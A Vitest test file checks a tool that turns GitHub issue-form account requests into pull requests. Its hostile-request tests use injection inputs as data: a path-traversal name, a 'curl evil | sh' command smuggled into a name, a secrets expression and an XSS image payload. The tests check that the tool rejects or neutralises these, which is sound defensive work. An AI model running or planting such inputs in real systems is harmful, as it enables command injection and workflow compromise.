import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { githubFixture } from '../helpers/actions.js';
import { repoRoot } from '../helpers/tree.js';
import { parseRequestBody, readRequest } from '../../engine/src/gitops/account-request.js';

/**
 * An account request, end to end: the issue form's answers as GitHub writes them in the issue's body, the event
 * of the run, and `spa github request-account` against the loopback GitHub server (branch, pull request, the
 * answer on the issue), with the settings of the repository's root as the default branch's checkout.
 */
const gh = githubFixture();
const mallory = () => gh.server.users['mallory-token']!;

interface Answers {
  name?: string;
  email?: string;
  holder?: string;
  ou?: string;
  costCenter?: string;
  budget?: string;
  note?: string;
}

/** The body GitHub writes for an issue form: each label as a heading, `_No response_` for an empty field. */
function formBody(a: Answers): string {
  const field = (label: string, value: string | undefined) => `### ${label}\n\n${value ?? '_No response_'}`;
  return [
    field('Account name', a.name),
    field('Account email', a.email),
    field('Holder email', a.holder),
    field('Organizational unit', a.ou),
    field('Cost center', a.costCenter),
    field('Monthly budget (USD)', a.budget),
    field('Note', a.note),
  ].join('\n\n');
}

let nextIssue = 500;

/** Opens the issue on the server as the requester did, and runs the workflow's step on its event. */
async function request(a: Answers, options: { labels?: string[]; number?: number; action?: string } = {}) {
  const number = options.number ?? nextIssue++;
  const labels = options.labels ?? ['account-request'];
  const body = formBody(a);
  gh.server.issues.set(number, {
    number,
    title: 'Account request',
    body,
    labels,
    state: 'open',
    user: mallory(),
    isPull: false,
  });
  const payload = {
    action: options.action ?? 'opened',
    issue: {
      number,
      title: 'Account request',
      body,
      state: 'open',
      labels: labels.map((name) => ({ name })),
      user: { login: 'mallory' },
    },
    repository: { default_branch: 'main' },
  };
  const r = await gh.runner.step(['request-account', '--dir', repoRoot], {
    name: 'issues',
    sha: gh.server.git.refs.get('heads/main')!,
    payload,
  });
  return { ...r, number };
}

const answersOn = (issue: number) =>
  gh.server.commentsOn(issue).filter((c) => c.user.login === 'github-actions[bot]');
const branchFile = (issue: number, path: string) => {
  const head = gh.server.git.refs.get(`heads/spa/account-request-${issue}`);
  return head ? gh.server.git.filesOf(head).get(path)?.toString('utf8') : undefined;
};
const pullsFrom = (issue: number) =>
  [...gh.server.pulls.values()].filter((p) => p.headRef === `spa/account-request-${issue}`);

const VALID: Answers = {
  name: 'gina-sandbox',
  email: 'gina+sandbox@example.com',
  holder: 'gina@example.com',
  ou: 'Sandbox/Personal',
  costCenter: 'CC-4242',
  budget: '250',
  note: 'Training for the data engineering certification.',
};

beforeAll(() => {
  gh.server.git.push('main', { 'README.md': '# settings\n' }, 'The default branch');
});

describe('an account request issue', () => {
  it('becomes a pull request adding the account file, and the issue links to it', async () => {
    const r = await request(VALID);
    expect(r.code, r.stderr).toBe(0);
    const text = branchFile(r.number, 'accounts/gina-sandbox.yaml');
    expect(text).toBeDefined();
    expect(text!.split('\n')[0]).toBe('# yaml-language-server: $schema=../schemas/account.schema.json');
    expect(parse(text!)).toEqual({
      name: 'gina-sandbox',
      email: 'gina+sandbox@example.com',
      holder: 'gina@example.com',
      organizationalUnit: 'Sandbox/Personal',
      costCenter: 'CC-4242',
      budget: { amount: 250 },
      note: 'Training for the data engineering certification.',
    });
    const [pull] = pullsFrom(r.number);
    expect(pull).toMatchObject({ title: 'Add account gina-sandbox', baseRef: 'main' });
    expect(pull!.body).toContain(`Closes #${r.number}`);
    expect(r.outputs.pull).toBe(String(pull!.number));
    const [answer, ...more] = answersOn(r.number);
    expect(more).toEqual([]);
    expect(answer!.body).toContain(`Pull request #${pull!.number} adds`);
    // The branch holds the default branch and the one new file.
    const head = gh.server.git.refs.get(`heads/spa/account-request-${r.number}`)!;
    expect([...gh.server.git.filesOf(head).keys()].sort()).toEqual([
      'README.md',
      'accounts/gina-sandbox.yaml',
    ]);
  });

  it('updates its pull request and its one answer when the issue is edited, and changes nothing when saved again', async () => {
    const first = await request(VALID);
    const number = first.number;
    const edited = await request({ ...VALID, budget: '300' }, { number, action: 'edited' });
    expect(edited.code, edited.stderr).toBe(0);
    expect(pullsFrom(number)).toHaveLength(1);
    expect((parse(branchFile(number, 'accounts/gina-sandbox.yaml')!) as { budget: unknown }).budget).toEqual({
      amount: 300,
    });
    expect(answersOn(number)).toHaveLength(1);
    const head = gh.server.git.refs.get(`heads/spa/account-request-${number}`);
    const writes = gh.server.requests.filter((q) => /^(POST|PATCH) .*\/git\/refs/.test(q)).length;
    await request({ ...VALID, budget: '300' }, { number, action: 'edited' });
    expect(gh.server.git.refs.get(`heads/spa/account-request-${number}`)).toBe(head);
    expect(gh.server.requests.filter((q) => /^(POST|PATCH) .*\/git\/refs/.test(q)).length).toBe(writes);
  });

  it('that the engine finds invalid is answered with the file:line:column message and the fix, and opens nothing', async () => {
    const r = await request({ ...VALID, name: 'hal-sandbox', ou: 'Sandbox/Personel' });
    expect(r.code).toBe(1);
    expect(pullsFrom(r.number)).toEqual([]);
    expect(gh.server.git.refs.has(`heads/spa/account-request-${r.number}`)).toBe(false);
    const body = answersOn(r.number)[0]!.body;
    expect(body).toMatch(/accounts\/hal-sandbox\.yaml:\d+:\d+ error \[unknown-ou\]/);
    expect(body).toContain('fix: write "Sandbox/Personal"');
  });

  it('with a name that is taken is refused', async () => {
    const r = await request({ ...VALID, name: 'alice-sandbox' });
    expect(r.code).toBe(1);
    expect(answersOn(r.number)[0]!.body).toContain('exists already');
    expect(pullsFrom(r.number)).toEqual([]);
  });

  it('without the label, or a closed one, is left alone', async () => {
    const r = await request(VALID, { labels: ['question'] });
    expect(r.code).toBe(0);
    expect(answersOn(r.number)).toEqual([]);
    expect(gh.server.git.refs.has(`heads/spa/account-request-${r.number}`)).toBe(false);
  });
});

describe('a hostile account request', () => {
  it.each([
    '../../.github/workflows/x',
    'x; curl evil | sh',
    '${{ secrets.SPA_GITHUB_APP }}',
    'a..b',
    'Gina',
    'a'.repeat(51),
  ])('named %s names no file and no branch', (name) => {
    const read = readRequest(parseRequestBody(formBody({ ...VALID, name })));
    expect('problems' in read && read.problems.map((p) => p.field)).toEqual(['Account name']);
    expect(JSON.stringify(read)).toContain('must be 1 to 50 lowercase letters');
  });

  it('with a path as its name is answered on the issue without quoting it, and nothing is written', async () => {
    const refs = gh.server.git.refs.size;
    const r = await request({ ...VALID, name: '../../.github/workflows/x' });
    expect(r.code).toBe(1);
    expect(gh.server.git.refs.size).toBe(refs);
    const body = answersOn(r.number)[0]!.body;
    expect(body).toContain('must be 1 to 50 lowercase letters');
    expect(body).not.toContain('.github/workflows');
  });

  it('keeps hostile text as values: the file reads back exactly, and the answer quotes it only where nothing acts', async () => {
    const note =
      'ping @octo-org/admins ``` </details> <img src=x onerror=alert(1)> https://evil.example ${{ github.token }}';
    const ok = await request({ ...VALID, name: 'ivan-sandbox', costCenter: '=1+2', note });
    expect(ok.code, ok.stderr).toBe(0);
    const doc = parse(branchFile(ok.number, 'accounts/ivan-sandbox.yaml')!) as Record<string, unknown>;
    expect(doc.note).toBe(note);
    expect(doc.costCenter).toBe('=1+2');
    // Refused (an unknown OU), the answer shows the file it would have written: in a fence no backtick run closes.
    const refused = await request({ ...VALID, name: 'ivan-sandbox', ou: 'Nowhere', note });
    expect(refused.code).toBe(1);
    const answer = answersOn(refused.number)[0]!.body;
    const fences = [...answer.matchAll(/^(`{3,})text\n[\s\S]*?\n\1$/gm)];
    expect(fences.length).toBe(2);
    expect(fences[0]![1]!.length).toBeGreaterThan(3);
    expect(fences[0]![0]).toContain(note);
    const outside = fences.reduce((text, f) => text.replace(f[0], ''), answer);
    expect(outside).not.toMatch(/@octo-org|<img|<\/details>|https:\/\/evil|\$\{\{/);
  });

  it('with an invisible character is answered with its code point, shown escaped', async () => {
    const r = await request({ ...VALID, name: 'judy-sandbox', note: 'fine\u202Etext' });
    expect(r.code).toBe(1);
    const body = answersOn(r.number)[0]!.body;
    expect(body).toContain('U+202E');
    expect(body).not.toContain('\u202E');
  });
});

describe('the request form', () => {
  it('offers exactly the managed organizational units of the settings', async () => {
    const form = parse(
      readFileSync(join(repoRoot, '.github/ISSUE_TEMPLATE/request-account.yml'), 'utf8'),
    ) as {
      labels: string[];
      body: { id?: string; attributes: { label?: string; options?: string[] } }[];
    };
    const { validateSettings } = await import('../../engine/src/desired/validate.js');
    const { directorySettings } = await import('../../engine/src/adapters/fs/settings-source.js');
    const v = validateSettings(await directorySettings(repoRoot, {}).files(), { seal: true });
    const managed = v.desired!.organizationalUnits.filter((o) => o.managed).map((o) => o.path);
    const dropdown = form.body.find((b) => b.id === 'organizational-unit')!;
    expect(dropdown.attributes.options).toEqual(managed.sort());
    expect(form.labels).toEqual(['account-request']);
    // The labels are what spa reads back from the issue's body.
    const { REQUEST_FIELDS } = await import('../../engine/src/gitops/account-request.js');
    const labels = form.body.map((b) => b.attributes.label).filter(Boolean);
    expect(labels.sort()).toEqual(Object.values(REQUEST_FIELDS).sort());
  });
});
